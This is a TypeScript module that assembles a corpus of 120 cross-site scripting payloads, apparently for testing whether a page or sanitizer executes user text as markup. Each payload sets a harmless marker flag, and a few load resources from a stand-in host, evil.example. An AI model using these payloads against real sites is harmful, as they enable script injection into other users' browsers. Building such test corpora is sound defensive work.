/** What every payload tries to do; nobody else ever sets it. */
export const MARK = 'pwned_by_text';
const RUN = `window.${MARK}=1`;

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];
const TAGS = [
  (on: string) => `<img src=x ${on}="${RUN}">`,
  (on: string) => `<svg ${on}=${RUN}>`,
  (on: string) => `<input autofocus ${on}='${RUN}'>`,
  (on: string) => `<details open ${on}=${RUN}>x</details>`,
  (on: string) => `<body ${on}=${RUN}>`,
  (on: string) => `"><iframe src=about:blank ${on}=${RUN}></iframe>`,
  (on: string) => `'><video><source ${on}="${RUN}"></video>`,
  (on: string) => `</textarea><style ${on}=${RUN}></style>`,
  (on: string) => `<a href=# autofocus tabindex=1 ${on}=${RUN}>press</a>`,
  (on: string) => `<math><mtext><mglyph><img src=x ${on}=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'-(${RUN})-'`,
  `</title><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<svg><script>${RUN}</script></svg>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="javascript:/a/-(${RUN})//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
];

const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `[press](javascript:${RUN})`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}|press>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="&#106;avascript:${RUN}">press</a>`,
  `<form action="javascript:${RUN}"><button>press</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<a href="https://ok.example" ping="//evil.example">x</a>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>press</text></a></svg>`,
  `<img src="javascript:${RUN}">`,
  `<area href="javascript:${RUN}">`,
  `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%${RUN}%}`,
  `__proto__[innerHTML]=<img src=x onerror=${RUN}>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"type":"img","props":{"src":"x","onError":"${RUN}"}}`,
  `\u2028${RUN}\u2029`,
  `\u202Etxt.<script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x:x onerror=\`${RUN}\`>`,
  `<img src=1 href=1 onerror="${RUN}"></img>`,
  `<marquee onstart=${RUN}>x</marquee>`,
];

/** 120 texts that would run in a page that takes text for markup. */
export const XSS_CORPUS: readonly string[] = [
  ...TAGS.flatMap((tag) => HANDLERS.map(tag)),
  ...SCRIPTS,
  ...LINKS,
  ...TEMPLATES,
];
